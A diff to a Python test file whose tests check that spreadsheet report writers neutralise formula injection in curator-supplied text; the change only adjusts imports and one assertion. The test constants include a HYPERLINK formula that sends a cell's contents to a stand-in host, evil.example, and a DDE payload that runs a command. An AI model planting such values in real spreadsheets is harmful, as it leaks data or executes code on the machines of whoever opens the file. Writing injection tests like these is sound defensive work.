@@ -27,8 +27,7 @@ from tests.admin_web import AdminWeb, admin_web, make_person
 from tests.factories import make_member, make_school
 from tests.test_admin_import import _upload
 from tests.test_cli import _add_school
-from tests.test_reports_charts import texts
-from tests.test_reports_xlsx import stats_report
+from tests.test_reports_xlsx import header_row, stats_report, texts
 
 ORDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Приказ")'
 TITLE = "+1+cmd|' /C calc'!A0"
@@ -60,11 +59,11 @@ def test_the_analytical_report_writes_a_curators_texts_as_text() -> None:
         ),
         practices=(PracticeRow(NAME, "2026-Q3", TITLE, "-2+3", "\t=1+1"),),
     )
-    book = load_workbook(io.BytesIO(analytical_report(report, texts("ru"))))
+    book = load_workbook(io.BytesIO(analytical_report(report, texts())))
     cells = [cell for sheet in book.worksheets for cell in _cells(sheet)]
     _assert_inert(cells, (ORDER, TITLE, NAME, "-2+3", "\t=1+1"))
     impact = book["Динамика"]
-    assert impact["B2"].data_type == "n"  # numbers stay numbers
+    assert impact.cell(header_row(impact) + 1, 2).data_type == "n"  # numbers stay numbers
 
 
 def test_the_one_writer_keeps_numbers_and_escapes_only_text() -> None:
